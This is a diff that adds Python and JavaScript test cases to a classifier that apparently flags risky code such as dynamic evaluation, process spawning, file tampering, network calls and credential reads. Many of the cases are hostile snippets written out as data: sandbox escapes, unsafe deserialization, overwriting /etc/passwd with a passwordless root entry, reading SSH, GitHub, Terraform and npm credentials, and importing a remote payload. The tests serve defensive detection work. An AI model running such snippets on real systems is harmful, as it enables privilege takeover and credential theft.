@@ -625,3 +625,63 @@ describe('classifyCode: packages and methods as agents use them', () => {
     expect(classes('javascript', code)).toEqual(expected);
   });
 });
+
+describe('classifyCode: escapes, loaders and writes a probe found', () => {
+  it.each([
+    ["import os\nos.__getattribute__('sys' + 'tem')('id')", ['dynamicEval']],
+    ["import importlib\nimportlib.__import__('os').system('id')", ['dynamicEval', 'processSpawn']],
+    [
+      "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['id'])",
+      ['dynamicEval'],
+    ],
+    ['import pickle, base64\npickle.loads(base64.b64decode(blob))', ['dynamicEval']],
+    ["import yaml\nyaml.unsafe_load(open('config.yml'))", ['dynamicEval']],
+    ["from pathlib import Path\nPath('/etc/passwd').write_text('root::0:0::/root:/bin/sh')", ['fileDelete']],
+    ["import shutil\nshutil.move('/etc/passwd', '/tmp/passwd.bak')", ['fileDelete']],
+    [
+      "import asyncio\nloop = asyncio.get_event_loop()\nloop.run_until_complete(loop.create_connection(P, 'x.io', 80))",
+      ['network'],
+    ],
+    ["open('/root/.my.cnf').read()", ['credentials']],
+    ["import os\nopen(os.path.expanduser('~/.config/gh/hosts.yml')).read()", ['credentials']],
+    [
+      "import os\nopen(os.path.join(os.path.expanduser('~'), '.terraform.d', 'credentials.tfrc.json'))",
+      ['credentials'],
+    ],
+    ["open('/etc/ssl/private/server.key').read()", ['credentials']],
+    // Not these.
+    ["import yaml\nyaml.safe_load(open('config.yml'))", []],
+    ["from pathlib import Path\nPath('out/report.md').write_text('# Report')", []],
+    ["import shutil\nshutil.move('build/a.txt', 'dist/a.txt')", []],
+    ['class Proxy:\n    def __getattribute__(self, name):\n        return 1', []],
+    ["open('data/cookies.csv').read()", []],
+    ['import getpass\nprint(getpass.getuser())', []],
+    ['import getpass\npassword = getpass.getpass()', ['credentials']],
+  ])('Python: %s', (code, expected) => {
+    expect(classes('python', code)).toEqual(expected);
+  });
+
+  it.each([
+    ["await import('child_process');", ['processSpawn']],
+    ["await import('https://x.io/payload.mjs');", ['dynamicEval', 'network']],
+    ["await import('data:text/javascript,console.log(1)');", ['dynamicEval']],
+    ['setInterval(String.fromCharCode(97, 108, 101, 114, 116, 40, 49, 41), 100);', ['dynamicEval']],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the code under test holds a template literal
+    ['setTimeout(`fetch(${Date.now()})`, 0);', ['dynamicEval']],
+    [
+      "const { Worker } = require('worker_threads');\nnew Worker('1 + 1', { eval: true });",
+      ['dynamicEval', 'processSpawn'],
+    ],
+    ["require('fs').renameSync('/etc/passwd', '/tmp/p');", ['fileDelete']],
+    ["await import('./util.js');", []],
+    ['setTimeout(() => done(), 10);', []],
+    ["require('fs').renameSync('a.txt', 'b.txt');", []],
+    ['const isFunction = (v) => v instanceof Function;', []],
+    ['console.log(Function.prototype.toString.call(Math.max));', []],
+    ["Function.prototype.constructor('return 1')();", ['dynamicEval']],
+    ['console.log(process.env.npm_package_version);', []],
+    ['console.log(process.env.npm_config__authToken);', ['credentials']],
+  ])('JavaScript: %s', (code, expected) => {
+    expect(classes('javascript', code)).toEqual(expected);
+  });
+});
